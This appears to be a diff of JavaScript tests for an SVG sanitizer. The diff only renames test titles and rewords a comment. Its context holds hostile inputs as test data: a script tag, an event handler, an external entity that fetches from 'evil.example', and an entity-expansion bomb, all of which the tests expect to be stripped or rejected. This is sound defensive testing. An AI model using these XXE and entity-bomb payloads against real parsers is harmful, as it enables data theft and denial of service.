@@ -13,14 +13,14 @@ test('a clean drawing keeps its shapes, gradients, texts and styles', () => {
   expect(cleaned(inner)).toBe(svg(inner))
 })
 
-test('what was cleaned is cleaned to itself', () => {
+test('cleaning is idempotent', () => {
   const once = cleaned(
     '<rect onclick="x()" width="1"/><script>1</script><text xml:space="preserve"> a\n b </text>',
   )
   expect(cleanDrawing(once).text).toBe(once)
 })
 
-describe('nothing is left of', () => {
+describe('removed are', () => {
   test.each([
     ['script', '<script>alert(1)</script>', /script|alert/],
     [
@@ -94,7 +94,7 @@ describe('nothing is left of', () => {
   })
 })
 
-describe('refused is', () => {
+describe('rejected are', () => {
   test.each([
     ['a parameter entity', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a">%a;]>${svg('')}`],
     ['a declaration in an included section', `<!DOCTYPE svg [<![INCLUDE[<!ENTITY a "b">]]>]>${svg('')}`],
@@ -118,13 +118,13 @@ describe('refused is', () => {
     expect(() => cleanDrawing(source)).toThrow()
   })
 
-  test('a bomb of entities, at once', () => {
+  test('an entity bomb is rejected quickly', () => {
     const bomb = `<!DOCTYPE a [${Array.from({ length: 20 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')}]>${svg('<text>&e20;</text>')}`
     expect(() => cleanDrawing(bomb)).toThrow()
   })
 })
 
-describe('a drawing as programs write it is kept without its document type', () => {
+describe('a drawing as programs write it loses only its document type', () => {
   const w3 = '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'
   test.each([
     ['matplotlib', `<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC ${w3}>\n`],
@@ -172,7 +172,7 @@ describe('a drawing of a million characters is read in one pass:', () => {
     ['comments that never end', `<style>${many('/*')}</style>`, `<style>${many('/*')}</style>`],
     ['references', `<style>${many('url(#a)')}</style>`, `<style>${many('url(#a)')}</style>`],
   ])('%s', (_, kept, inner) => {
-    // Compared as a whole, for a difference between texts of that length takes minutes to write.
+    // Compared as a whole: a diff of texts of that length would take minutes.
     expect(cleaned(inner) === svg(kept)).toBe(true)
   })
 
@@ -186,7 +186,7 @@ describe('a drawing of a million characters is read in one pass:', () => {
     })
   })
 
-  test('a document type of percent signs', () => {
+  test('a document type full of percent signs', () => {
     expect(cleanDrawing(`<!DOCTYPE svg [${many('%')}]>${svg('')}`).text).toBe(svg(''))
     expect(() => cleanDrawing(`<!DOCTYPE svg [${many('%')}%a;]>${svg('')}`)).toThrow('entities')
   })
